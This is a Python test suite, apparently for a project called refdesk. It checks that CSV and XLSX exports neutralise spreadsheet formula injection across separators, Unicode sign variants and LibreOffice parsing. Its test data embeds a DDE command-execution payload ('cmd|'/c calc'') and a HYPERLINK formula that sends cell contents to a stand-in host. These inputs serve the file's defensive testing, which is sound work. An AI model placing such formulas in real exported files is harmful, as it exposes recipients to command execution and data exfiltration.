"""Cells that no spreadsheet runs."""

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from refdesk.web.spreadsheets import BYTE_ORDER_MARK, Separator, csv_line, harmless
from refdesk.web.workbooks import Workbook

SIGNS: Final = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    "\u200b=",
    "\ufeff=",
)
FORMULA: Final = "1+cmd|'/c calc'!A0+HYPERLINK(\"http://xss.invalid/?\"&A1)"
# Every way a cell might begin a formula, and every place where a reader might cut it.
CELLS: Final = [
    *(
        f"{before}{sign}{FORMULA}"
        for sign in SIGNS
        for before in ("", " ", "'", '"', ' " ', "\u00a0")
    ),
    *(f"apa{cut}{sign}{FORMULA}" for sign in SIGNS[:8] for cut in (";", ",", "\t", "\r\n", '";"')),
    *("DDE", "=", "==", "+62 812-3456", "-5", "a=b", "https://xss.invalid/", "mailto:a@b.c"),
    *("0812", "1e5", "2026-03-02", "TRUE", "#REF!", "{=1+1}", "x" * 40_000),
]
OFFICE: Final = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.parametrize("cell", ["=1+1", "+62", "-2", "@x", "\t=1", " =cmd", "＝1", "'=1"])
def test_what_looks_like_a_formula_is_defused(cell: str) -> None:
    """A text that would start a formula gets an apostrophe before it."""
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", [5, -5, "halo", "", "a=b", "ya, - buku"])
def test_harmless_cells_stay(cell: object) -> None:
    """Numbers and ordinary text are written as they are."""
    assert harmless(cell) == str(cell)


def test_a_cell_cut_at_the_other_separator_is_defused_there() -> None:
    """Excel set to Indonesian cuts at semicolons, whatever the file meant."""
    assert harmless("buku;=1+1") == "buku;'=1+1"
    assert harmless("buku,=1+1", Separator.SEMICOLON) == "buku,'=1+1"
    assert harmless("buku\n=1+1") == "buku\n'=1+1"


@pytest.mark.parametrize("separator", Separator)
@given(cells=st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=5))
def test_a_line_reads_back(separator: Separator, cells: list[str]) -> None:
    """Separators, quotes and line breaks inside cells survive."""
    sign = "," if separator is Separator.COMMA else ";"
    text = csv_line(cells, separator)
    (read,) = list(csv.reader(io.StringIO(text, newline=""), delimiter=sign))
    assert read == [harmless(cell, separator) for cell in cells]


async def test_a_workbook_holds_texts_and_numbers_only(tmp_path: Path) -> None:
    """Read by another program no cell is a formula or a link, and every text is what it was."""
    file = tmp_path / "table.xlsx"
    file.write_bytes(await _workbook())
    sheet = load_workbook(file).active
    assert sheet is not None
    (heading, numbers), *rows = sheet.iter_rows()
    assert [heading.value, numbers.value] == ["Pertanyaan", "Jumlah"]
    kinds = {cell.data_type for row in rows for cell in row}
    assert kinds == {"s", "n"}
    assert all(cell.hyperlink is None for row in rows for cell in row)
    whole = [(text, row[0].value) for text, row in zip(CELLS, rows, strict=True)]
    assert [pair for pair in whole if "\r" not in pair[0] and pair[1] != pair[0][:32_767]] == []
    assert [row[1].value for row in rows] == list(range(len(CELLS)))
    with zipfile.ZipFile(file) as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower()]


async def test_a_formula_in_a_workbook_would_be_seen(tmp_path: Path) -> None:
    """The same look at a workbook that was written carelessly finds the formula."""
    from xlsxwriter import Workbook as Careless  # noqa: PLC0415 - here only

    file = tmp_path / "careless.xlsx"
    with Careless(file) as book:
        book.add_worksheet().write(0, 0, "=1+1")
    sheet = load_workbook(file).active
    assert sheet is not None
    assert sheet["A1"].data_type == "f"


@pytest.mark.parametrize("written", Separator)
def test_the_other_separator_cuts_no_formula_loose(written: Separator) -> None:
    """Read with either separator by a reader that knows no quotes, no cell begins a formula."""
    text = "".join(csv_line([cell, cell], written) for cell in CELLS)
    for sign in (",", ";"):
        loose = [cell for line in text.splitlines() for cell in line.split(sign)]
        if sign != ("," if written is Separator.COMMA else ";"):
            assert [cell for cell in loose if cell.strip().strip('"').startswith(SIGNS)] == []


async def test_libreoffice_computes_nothing(tmp_path: Path) -> None:
    """Where it is at hand: opened with either separator, or as a workbook, there is no formula."""
    if OFFICE is None:
        return  # the tests above say the same of other readers
    tables = [tmp_path / f"{one}.csv" for one in Separator]
    for written, table in zip(Separator, tables, strict=True):
        lines = [csv_line([cell, place], written) for place, cell in enumerate(CELLS)]
        table.write_text(BYTE_ORDER_MARK + "".join(lines), "utf-8", newline="")
    careless, book = tmp_path / "careless.csv", tmp_path / "book.xlsx"
    careless.write_text("a\n=1+1\n", "utf-8")
    book.write_bytes(await _workbook())
    for sign in (",", ";"):
        found = _opened(tmp_path, [*tables, careless], f"CSV:{ord(sign)},34,76,1")
        assert found.pop("careless") == ["=1+1"], "the look itself has to work"
        assert found == {"comma": [], "semicolon": []}
    assert _opened(tmp_path, [book]) == {"book": []}


def _opened(folder: Path, tables: Sequence[Path], reading: str = "") -> dict[str, list[object]]:
    """Let LibreOffice open files and save what it understood; give the formulas in each."""
    how = [f"--infilter={reading}"] if reading else []
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    command = [str(OFFICE), profile, "--headless", *how, "--convert-to", "xlsx", "--outdir"]
    out = folder / "understood"
    names = [str(one) for one in tables]
    subprocess.run([*command, str(out), *names], check=True, capture_output=True, timeout=90)
    return {one.stem: _formulas(out / f"{one.stem}.xlsx") for one in tables}


def _formulas(file: Path) -> list[object]:
    sheets = load_workbook(file).worksheets
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert cells
    return [cell.value for cell in cells if cell.data_type == "f"]


async def _workbook() -> bytes:
    book = Workbook(["Pertanyaan", "Jumlah"])
    await book.add([cell, place] for place, cell in enumerate(CELLS))
    return b"".join([piece async for piece in book.pieces()])
